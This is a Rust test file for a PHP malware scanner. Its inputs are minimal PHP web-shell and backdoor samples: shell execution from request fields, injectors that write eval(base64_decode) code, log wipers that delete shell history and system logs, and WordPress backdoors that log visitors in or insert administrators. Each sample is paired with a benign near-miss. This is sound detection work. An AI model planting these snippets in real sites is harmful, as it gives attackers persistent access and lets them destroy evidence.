//! Tests of [`super`]: each family with its own minimal shape, a clean near-miss, and its fixture.

use super::*;
use crate::detect::judge;
use crate::php;

fn found(src: &str) -> Vec<(Why, Danger)> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }, &Shared::default())
        .into_iter()
        .map(|s| (s.why, s.danger))
        .collect()
}

#[test]
fn commands_through_another_engine() {
    let com = "<?php $w = new COM('WScr'.'ipt.Shell'); $w->exec('cmd /c ' . $_POST['c']);";
    assert_eq!(found(com), [(Why::ShellObject, Danger::Critical)]);
    let perl = "<?php $p = new Perl(); $p->eval(\"system('$c')\");";
    assert_eq!(found(perl), [(Why::ShellObject, Danger::High)]);
    let comspec = "<?php $h = proc_open($_SERVER['COMSPEC'], $spec, $pipes);";
    assert_eq!(found(comspec), [(Why::ShellObject, Danger::High)]);
    // Near misses: other COM objects (Office, file system), a class's own `eval` method.
    assert!(found("<?php $fs = new COM('Scripting.FileSystemObject'); $fs->GetFolder($dir);").is_empty());
    assert!(found("<?php $x = new Parser(); $x->eval($expr); // new perl-like syntax").is_empty());
    assert!(found("<?php $shell = getenv('ComSpec'); $cmd = $shell . ' /c dir';").is_empty());
}

#[test]
fn a_program_started_in_the_background() {
    assert_eq!(found("<?php exec('./miner -q > /dev/null 2>&1 &');"), [(Why::StartsProgram, Danger::High)]);
    assert_eq!(found("<?php `nohup /tmp/.x/run &`;"), [(Why::StartsProgram, Danger::High)]);
    // An application's own worker, or a program run in the foreground.
    assert!(found("<?php exec($php . ' cron.php > /dev/null &');").is_empty());
    assert!(found("<?php exec('php index.php start > /dev/null 2>&1 &');").is_empty());
    assert!(found("<?php exec('./configure --prefix=/usr', $out); // nohup").is_empty());
}

#[test]
fn an_injector_of_hidden_code() {
    let inject = "<?php $s = '<?php eval(gzinflate(base64_decode(\"x\"))); ?>'; file_put_contents('../index.php', $s);";
    assert_eq!(found(inject), [(Why::InjectsHiddenCode, Danger::High)]);
    // The same text printed (a researcher's notes), or plain PHP written by an installer.
    assert!(found("<?php $s = '<?php eval(base64_decode(\"x\"));'; echo htmlspecialchars($s);").is_empty());
    assert!(found("<?php file_put_contents('config.php', '<?php return array(); // eval( base64_decode');").is_empty());
}

#[test]
fn a_log_wiper() {
    let wipe = "<?php foreach (array('/var/log/wtmp', '/var/log/lastlog', '/root/.bash_history') as $f) unlink($f);";
    assert_eq!(found(wipe), [(Why::ErasesLogs, Danger::High)]);
    let shell = "<?php system('find / -name .bash_history -exec rm -f {} \\;'); system('rm -f /var/log/messages /var/log/secure');";
    assert_eq!(found(shell), [(Why::ErasesLogs, Danger::High)]);
    let find = "<?php foreach (array('find / -name *.bash_history -delete', 'find / -name *.log -delete', 'unset HISTFILE') as $c) system($c);";
    assert_eq!(found(find), [(Why::ErasesLogs, Danger::High)]);
    // A log viewer reads them.
    let view = "<?php foreach (array('/var/log/messages', '/var/log/secure', '/var/log/maillog') as $f) { $h = fopen($f, 'r'); echo fread($h, 4096); }";
    assert!(found(view).is_empty());
}

#[test]
fn every_log_name_holds_a_word_of_the_gate() {
    // The gate must hold a word of each of `LOG_FILE`'s alternatives, or a wiper's literal
    // would never reach the regex.
    let names: [&[u8]; 12] = [
        b"/VAR/LOG/x",
        b"/var/adm/x",
        b".bash_history",
        b".ZSH_LOGOUT",
        b".mysql_history",
        b"wtmp",
        b"uwtmp",
        b"UTMP",
        b"lastlog",
        b"unset HISTFILE",
        b"find / -name '*.log'",
        b"find\t/var -name x_log",
    ];
    // Whether a literal of that text opens the log names' gate.
    let gated = |n: &[u8]| {
        let src = [b"<?php \"", n, b"\";"].concat();
        let t = crate::php::tokenize_for_test(Box::leak(src.into_boxed_slice()), usize::MAX);
        let i = t.iter().position(|x| matches!(x.tok, Tok::Str(_))).expect("a literal");
        super::super::words::LiteralGates::default().has(&t, i, Gate::Logs)
    };
    for n in names {
        assert!(LOG_FILE.is_match(n), "{}", String::from_utf8_lossy(n));
        assert!(gated(n), "{}", String::from_utf8_lossy(n));
    }
    assert!(!gated(b"/var/www/html/log.txt and a history of the site"));
}

#[test]
fn a_visitor_logged_in_as_administrator() {
    let login = "<?php require('../wp-blog-header.php'); wp_set_auth_cookie(1); wp_redirect(admin_url());";
    assert_eq!(found(login), [(Why::AdminBackdoor, Danger::High)]);
    // A plugin's login after its own checks lives in a function; WordPress's own files do
    // not load WordPress.
    let sso =
        "<?php require_once 'wp-load.php'; function sso_login($u) { if (check($u)) { wp_set_auth_cookie($u->ID); } }";
    assert!(found(sso).is_empty());
    assert!(found("<?php wp_set_auth_cookie($user_id, $remember);").is_empty());
    // Regression: fresh125's `wp-blog-format.php` loads WordPress from the trimmed document
    // root and logs its visitor in as the first administrator.
    let trimmed = "<?php require(rtrim($_SERVER[\"DOCUMENT_ROOT\"], \"/\\\\\") . DIRECTORY_SEPARATOR . \"wp-blog-header.php\");\n\
                   $u = get_users('role=administrator'); foreach ($u as $p) { $us = $p->user_login; break; } $us = get_user_by('login', $us);\n\
                   if (user_can($us, 'administrator')) { wp_clear_auth_cookie(); wp_set_current_user($us->ID); wp_set_auth_cookie($us->ID); wp_safe_redirect(admin_url()); exit(); }";
    assert_eq!(found(trimmed), [(Why::AdminBackdoor, Danger::High)]);
}

#[test]
fn a_login_without_a_password_is_a_backdoor() {
    let src = "<?php require 'wp-load.php'; $u = get_users(array('role' => 'administrator'));\n\
               wp_set_current_user($u[0]->ID); wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;";
    assert_eq!(found(src), [(Why::AdminBackdoor, Danger::High)]);
    // A script that checks the password first.
    let checked = "<?php require 'wp-load.php'; $u = get_user_by('login', $_POST['log']);\n\
                   if ($u && wp_check_password($_POST['pwd'], $u->user_pass, $u->ID)) { wp_set_auth_cookie($u->ID); }";
    assert!(found(checked).is_empty());
}

#[test]
fn a_doorway_checking_its_own_listing() {
    let check = "<?php $r = file_get_contents('https://safebrowsing.example.com/check?site=' . $_SERVER['HTTP_HOST']); if ($r) exit;";
    assert_eq!(found(check), [(Why::ChecksBlocklists, Danger::High)]);
    // A mail server's check of a sender's address in a DNS blocklist.
    assert!(found("<?php $hit = gethostbyname($reversed . '.zen.spamhaus.org');").is_empty());
    // A scanner's signature that names the call in a literal.
    assert!(
        found("<?php if (strpos($c, \"file_get_contents('http://www.google.com/safebrowsing/?site=\") !== false) {}")
            .is_empty()
    );
}

#[test]
fn a_dropper_deleting_itself_through_a_variable() {
    let me =
        "<?php $me = str_replace('/', '', $_SERVER['SCRIPT_NAME']); file_put_contents('../x.php', $c); unlink($me);";
    assert_eq!(found(me), [(Why::DeletesItself, Danger::Medium)]);
    assert_eq!(found("<?php $f = basename(__FILE__); @unlink($f);"), [(Why::DeletesItself, Danger::Medium)]);
    // Another file deleted, next to a variable holding the script's name.
    assert!(found("<?php $self = $_SERVER['PHP_SELF']; $tmp = $dir . '/x.tmp'; unlink($tmp);").is_empty());
    // The same name used for another file too.
    assert!(found("<?php $p = __FILE__; $n = filemtime($p); $p = $dir . '/old.log'; unlink($p);").is_empty());
}

#[test]
fn an_unset_variable_named_like_a_request_field_run() {
    let direct = "<?php if (isset($_GET['cmd'])) { echo shell_exec($cmd); }";
    assert_eq!(found(direct), [(Why::ShellFromInput, Danger::High)]);
    let wrapped = "<?php function ex($cmd) { $o = ''; @exec($cmd, $o); return join(\"\\n\", $o); } if ($_POST['cmd'] != '') { echo ex($cmd); }";
    assert_eq!(found(wrapped), [(Why::ShellFromInput, Danger::High)]);
    assert_eq!(found("<?php if ($_REQUEST['php']) eval(\"?>$php\");"), [(Why::CodeFromInput, Danger::High)]);
    // The file sets the variable itself, or names it global, or no field of the name is read.
    assert!(found("<?php $cmd = escapeshellarg($_GET['cmd']); echo shell_exec('ls ' . $cmd);").is_empty());
    assert!(
        found("<?php function run($cmd) { return shell_exec($cmd); } echo run($_GET['x'] ? 'a' : 'b');").is_empty()
    );
    assert!(found("<?php global $cmd; if (isset($_GET['cmd'])) { echo shell_exec($cmd); }").is_empty());
    assert!(found("<?php if (isset($_GET['go'])) { echo shell_exec($tool); }").is_empty());
}

#[test]
fn a_gadget_calling_its_parameter() {
    let reflect = "<?php class T { function __construct($f, $v) { $f($v); } } foreach ($_POST as $k => $v) { $$k = $v; } (new ReflectionClass('T'))->newInstance($k, $$k);";
    assert_eq!(found(reflect), [(Why::DynamicCallFromInput, Danger::High)]);
    let joined =
        "<?php function w($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); array_walk($a, 'w');";
    assert_eq!(found(joined), [(Why::DynamicCallFromInput, Danger::High)]);
    // The request named by a literal for a variable variable (`$$r` with `$r = '_POST'`).
    let named = "<?php class T { function __construct($f, $v) { $f($v); } } foreach (array('_POST') as $r) { \
                 foreach ($$r as $k => $v) { $$k = $v; } } (new ReflectionClass('T'))->newInstance($k, $$k);";
    assert_eq!(found(named), [(Why::DynamicCallFromInput, Danger::High)]);
    // A literal that only mentions such a name in a sentence.
    assert!(found("<?php function tap($value, $callback) { $callback($value); } $m = 'Use _POST data';").is_empty());
    // A helper of a library (no request read), or a callback given a fixed value.
    assert!(found("<?php function tap($value, $callback) { $callback($value); return $value; }").is_empty());
    assert!(
        found("<?php function each_row($rows, $fn) { foreach ($rows as $r) { $fn('row'); } } echo $_GET['q'];")
            .is_empty()
    );
}

#[test]
fn a_file_manager_on_request_paths() {
    let one = "<?php $p = stripslashes($_GET['p']); chmod($p, 0777); echo 'ok';";
    assert_eq!(found(one), [(Why::FileChangeFromInput, Danger::Medium)]);
    let many = "<?php rename($_POST['a'], $_POST['b']); rmdir($_POST['d']); @unlink(trim($_POST['f']));";
    assert_eq!(found(many), [(Why::FileChangeFromInput, Danger::High)]);
    let read = "<?php echo file_get_contents($_REQUEST['f']);";
    assert_eq!(found(read), [(Why::FileReadFromInput, Danger::Medium)]);
    assert_eq!(found("<?php readfile(@$_GET['f']);"), [(Why::FileReadFromInput, Danger::Medium)]);
    // Regression: fresh127's `filegetcontent2` dumps the file.
    let dumped = "<?php if (isset($_GET[\"f\"])) var_dump(file_get_contents($_GET[\"f\"])); else { echo \"<form><input name='f'></form>\"; }";
    assert_eq!(found(dumped), [(Why::FileReadFromInput, Danger::Medium)]);
    // The application's folder in front, a name made from the request, an upload's
    // temporary file, or a read that is not shown.
    assert!(found("<?php unlink(CACHE_DIR . $_GET['key']); unlink('cache/' . $_GET['k']);").is_empty());
    assert!(found("<?php $f = session::get('graph' . $_GET['id']); echo file_get_contents($f);").is_empty());
    assert!(found("<?php chmod($_FILES['up']['tmp_name'], 0644);").is_empty());
    assert!(found("<?php $data = file_get_contents($_GET['u']); $n = strlen($data);").is_empty());
}

#[test]
fn an_applications_file_manager_is_its_own() {
    let gated =
        "<?php if (!current_user_can('manage_options')) { exit; } unlink($_POST['f']); chmod($_POST['g'], 0644);";
    assert!(judge("x.php", "x.php", gated.as_bytes(), &[]).is_empty());
    let method = "<?php class Files extends Controller { function drop() { unlink($_POST['f']); rmdir($_POST['d']); rename($_POST['a'], $_POST['b']); } }";
    assert!(judge("x.php", "x.php", method.as_bytes(), &[]).is_empty());
}

/// The own-written fixtures of these families are reported for them through `judge`.
#[test]
fn each_fixture_is_reported_for_its_family() {
    let cases: &[(&str, &str, Why)] = &[
        (
            "windows_script_host_shell.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/windows_script_host_shell.php"),
            Why::ShellObject,
        ),
        (
            "embedded_perl_shell.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/embedded_perl_shell.php"),
            Why::ShellObject,
        ),
        (
            "background_binary_start.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/background_binary_start.php"),
            Why::StartsProgram,
        ),
        (
            "index_injector_hidden_eval.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/index_injector_hidden_eval.php"),
            Why::InjectsHiddenCode,
        ),
        ("log_wiper.php", include_str!("../../../../tests/fixtures/sweep/malicious/log_wiper.php"), Why::ErasesLogs),
        (
            "login_as_admin_without_password.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/login_as_admin_without_password.php"),
            Why::AdminBackdoor,
        ),
        (
            "wordpress_auto_login.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/wordpress_auto_login.php"),
            Why::AdminBackdoor,
        ),
        (
            "request_path_file_manager.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/request_path_file_manager.php"),
            Why::FileChangeFromInput,
        ),
        (
            "request_path_file_reader.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/request_path_file_reader.php"),
            Why::FileReadFromInput,
        ),
        (
            "self_deleting_through_variable.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/self_deleting_through_variable.php"),
            Why::DeletesItself,
        ),
        (
            "register_globals_command.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/register_globals_command.php"),
            Why::ShellFromInput,
        ),
        (
            "reflection_call_gadget.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/reflection_call_gadget.php"),
            Why::DynamicCallFromInput,
        ),
        (
            "doorway_blocklist_check.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/doorway_blocklist_check.php"),
            Why::ChecksBlocklists,
        ),
    ];
    for (name, src, why) in cases {
        let hits = judge(name, name, src.as_bytes(), &[]);
        assert!(hits.iter().any(|h| h.why == *why), "{name}: {:?}", hits.iter().map(|h| h.why).collect::<Vec<_>>());
    }
}

#[test]
fn an_administrator_inserted_with_a_stored_password_hash_is_a_backdoor() {
    // fresh17's CMSmap "WordPress Shell" plugin: `adminlin` put into `wp_users` with an MD5, then
    // given the administrator role.
    let cmsmap = "<?php include($path . 'wp-blog-header.php'); $u = 'adminlin'; \
                  $wpdb->insert($table_prefix . 'users', array('user_login' => $u, \
                  'user_pass' => '57a48cf5883989417e6c0583c87ceb40', 'user_email' => 'admin@admin.com')); \
                  $o = new WP_User($wpdb->insert_id); $o->set_role('administrator');";
    assert_eq!(found(cmsmap), [(Why::AdminBackdoor, Danger::High)]);
    let sql = "<?php $wpdb->query('INSERT INTO wp_users (user_login, user_pass) VALUES (\\'sup\\', \\'$P$BuO6yv2bKhYFvH6Bq1rnIlmlXmO0lV.\\')'); \
               update_user_meta($id, 'wp_capabilities', array('administrator' => true));";
    assert_eq!(found(sql), [(Why::AdminBackdoor, Danger::High)]);
    // Near-misses: a test's administrator made with a typed password, a hash stored for an
    // ordinary member, and a hash checked, not written.
    assert!(found("<?php $id = wp_insert_user(array('user_login' => 'admin', 'user_pass' => 'password', 'role' => 'administrator'));").is_empty());
    assert!(found("<?php $wpdb->insert('wp_users', array('user_login' => 'bob', 'user_pass' => '57a48cf5883989417e6c0583c87ceb40'));").is_empty());
    assert!(
        found("<?php if ($row->user_pass === '57a48cf5883989417e6c0583c87ceb40') { echo 'administrator'; }").is_empty()
    );
}

#[test]
fn administrators_added_by_raw_sql_from_a_form_are_a_backdoor() {
    // fresh23's wp-aa.php: WordPress's settings read for the database password, then users and
    // their administrator capabilities inserted from what the form sends.
    let form = "<?php require_once('wp-config.php'); $con = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n\
                $u = $_POST['user_name']; $p = wp_hash_password($_POST['pwd']);\n\
                mysqli_query($con, \"INSERT INTO `\" . $table_prefix . \"users` (`user_login`, `user_pass`) VALUES ('$u', '$p')\");\n\
                $id = mysqli_insert_id($con); $cap = 'a:1:{s:13:\"administrator\";b:1;}';\n\
                mysqli_query($con, \"INSERT INTO `\" . $table_prefix . \"usermeta` (`user_id`, `meta_key`, `meta_value`) VALUES ($id, 'wp_capabilities', '$cap')\");";
    assert_eq!(found(form), [(Why::AdminBackdoor, Danger::High)]);
    let loaded = form.replace("require_once('wp-config.php');", "require __DIR__ . '/wp-load.php';");
    assert_eq!(found(&loaded), [(Why::AdminBackdoor, Danger::High)]);
    // A migration's installer writes the settings file and creates its administrator with the
    // database password it is given: it does not read WordPress's settings.
    let installer = form
        .replace("require_once('wp-config.php');", "file_put_contents('wp-config.php', $config);")
        .replace("DB_PASSWORD", "$_POST['dbpass']");
    assert!(found(&installer).is_empty());
    // fresh58's wp-store.php: the user, the password and the mail written in the file, the
    // settings' path kept in a variable, the role inside a double-quoted literal.
    let written = "<?php $cfg = $_SERVER['DOCUMENT_ROOT'] . '/wp-config.php'; $user = 'matigan'; $pw = 'x1';\n\
                   if (file_exists($cfg)) { require_once($cfg); $c = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n\
                   $q = \"INSERT INTO {$table_prefix}users (user_login, user_pass) VALUES ('$user', MD5('$pw'))\";\n\
                   mysqli_query($c, $q); $id = mysqli_insert_id($c);\n\
                   mysqli_query($c, \"INSERT INTO {$table_prefix}usermeta (user_id, meta_key, meta_value) VALUES ($id, \
                   '{$table_prefix}capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\"); }";
    assert_eq!(found(written), [(Why::AdminBackdoor, Danger::High)]);
    // Regression (review): the role serialized by the script, the password read by name.
    let serialized = written
        .replace("'a:1:{s:13:\\\"administrator\\\";b:1;}'", "'\" . serialize(array('administrator' => true)) . \"'")
        .replace("DB_PASSWORD,", "constant('DB_PASSWORD'),");
    assert!(serialized.contains("serialize(") && serialized.contains("constant('DB_PASSWORD')"), "{serialized}");
    assert_eq!(found(&serialized), [(Why::AdminBackdoor, Danger::High)]);
}

#[test]
fn administrators_added_to_every_site_whose_settings_are_parsed_are_a_backdoor() {
    // fresh74's admin adder: every `wp-config.php` under the account read as text, the database
    // password picked out by a pattern, an administrator inserted into each site.
    let adder = r#"<?php $u = "SuperAdmin"; $p = "x";
        foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')) as $f) {
          if (basename($f) == 'wp-config.php') { $c = file_get_contents($f);
            preg_match("/DB_PASSWORD',\s*'([^']+)'/", $c, $pw);
            preg_match("/DB_NAME',\s*'([^']+)'/", $c, $db);
            $pdo = new PDO("mysql:host=localhost;dbname={$db[1]}", 'u', $pw[1]);
            $pdo->prepare("INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)")->execute([$u, md5($p)]);
            $pdo->prepare("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, ?, ?)")
                ->execute([$pdo->lastInsertId(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}']); } }"#;
    assert_eq!(found(adder), [(Why::AdminBackdoor, Danger::High)]);
    // Near-miss: a backup tool that reads the settings for the password and dumps the users'
    // tables, writing no administrator.
    let backup = adder
        .replace(
            "INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)",
            "SELECT user_login, user_pass FROM wp_users",
        )
        .replace(
            "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, ?, ?)",
            "SELECT meta_value FROM wp_usermeta",
        );
    assert!(found(&backup).is_empty(), "{:?}", found(&backup));
    // Regressions (review): the settings parsed by a generic pattern and read with `fread`;
    // and a migration's installer, which writes the settings file back with the password it
    // was sent before making the site's administrator.
    let generic = adder
        .replace("$c = file_get_contents($f);", "$c = fread(fopen($f, 'r'), filesize($f));")
        .replace("/DB_PASSWORD'", "/DB_USER'")
        .replace(
            ", $c, $pw);",
            r#", $c, $user); preg_match_all("/define\(\s*'(\w+)'\s*,\s*'([^']*)'/", $c, $m); $cfg = array_combine($m[1], $m[2]); $pw = [0, $cfg['DB_PASSWORD']];"#,
        );
    assert!(
        generic.contains("fread(") && generic.contains("$cfg['DB_PASSWORD']") && !generic.contains("/DB_PASSWORD"),
        "{generic}"
    );
    let only_fread = adder.replace("$c = file_get_contents($f);", "$c = fread(fopen($f, 'r'), filesize($f));");
    assert_eq!(found(&only_fread), [(Why::AdminBackdoor, Danger::High)], "fread");
    assert_eq!(found(&generic), [(Why::AdminBackdoor, Danger::High)]);
    let installer = adder
        .replace("$c = file_get_contents($f);", "$c = file_get_contents($f); file_put_contents('wp-config.php', $c);");
    assert!(found(&installer).is_empty(), "{:?}", found(&installer));
}

#[test]
fn the_gate_finds_its_words_where_the_whole_pattern_would() {
    // The gate looks for the pattern only where one of its first words is (in a lowercase
    // copy), anchored there: on generated texts it answers as the pattern over the whole text.
    let pattern = Regex::new(MAY_MATCH_PATTERN).expect("pattern compiles");
    let pieces = [
        "new",
        "NEW",
        "New ",
        " ",
        "\t",
        "\n",
        "x",
        "_",
        "COM",
        "com(",
        "Perl",
        "perl;",
        "ComSpec",
        "/dev/null",
        " 2>&1",
        "&",
        "NoHup",
        "wp_set_auth_cookie",
        "USER_PASS",
        "/var/log/",
        "_history",
        "HISTFILE",
        "utmp",
        "wtmp",
        "LastLog",
        "SafeBrowsing",
        "spamhaus",
        "surbl",
        "uribl",
        "eval",
        "EvAl",
        "(",
        " (",
        "base64_decode",
        "GZINFLATE",
        "strrev",
        "str_rot13",
        "renew",
        "evaluate",
        "a",
        "é",
        "\u{0}",
    ];
    let mut next = crate::shapes::tests::pseudo_random(0x2545_F491_4F6C_DD1D);
    let mut matched = 0;
    for _ in 0..20_000 {
        let len = 1 + next(12);
        let text: String = (0..len).map(|_| pieces[next(pieces.len())]).collect();
        let whole = pattern.is_match(text.as_bytes());
        matched += usize::from(whole);
        assert_eq!(may_match_pattern(text.as_bytes()), whole, "{text:?}");
    }
    // (Both answers are common: the texts test the gate, not one side of it.)
    assert!((2_000..18_000).contains(&matched), "{matched}");
    // Word edges and whitespace as the pattern has them.
    for (text, whole) in [
        ("$o = new   COM('x');", true),
        ("renew COM", false),
        ("new COMx", false),
        ("EVAL  (\n base64_decode($x))", true),
        ("xutmp", false),
        ("a wtmp", true),
        ("/dev/null   2>&1 &", true),
    ] {
        assert_eq!(may_match_pattern(text.as_bytes()), whole, "{text}");
    }
}

#[test]
fn file_changes_are_known_by_their_index_in_any_case() {
    for (k, w) in FILE_CHANGE.iter().enumerate() {
        assert_eq!(kind_of(w), Some(K::FileChange(k)), "{}", String::from_utf8_lossy(w));
        assert_eq!(kind_of(&w.to_ascii_uppercase()), Some(K::FileChange(k)));
    }
    assert_eq!(kind_of(b"ReadFile"), Some(K::FileShow));
    assert_eq!(kind_of(b"copyright"), None);
    assert_eq!(kind_of(b"Co"), None);
}

#[test]
fn a_home_page_replaced_in_a_folder_the_visitor_names() {
    // fresh68's `radio.php`: the folder sent with a default, its `index.php` deleted and replaced.
    let s = "<?php $path = isset($_GET['path']) ? $_GET['path'] : '';\n\
             $index = rtrim($path, DIRECTORY_SEPARATOR) . '/index.php';\n\
             if (file_exists($index)) { @unlink($index); } @copy(__DIR__ . '/iput/index.php', $index);";
    assert!(found(s).iter().any(|(w, _)| *w == Why::FileChangeFromInput), "{:?}", found(s));
    // The application's own folder in front of the visitor's name is not the visitor's path.
    let own = "<?php $name = $_GET['name'] ?? ''; $file = UPLOAD_DIR . $name . '.tmp'; @unlink($file);";
    assert!(!found(own).iter().any(|(w, _)| *w == Why::FileChangeFromInput), "{:?}", found(own));
}
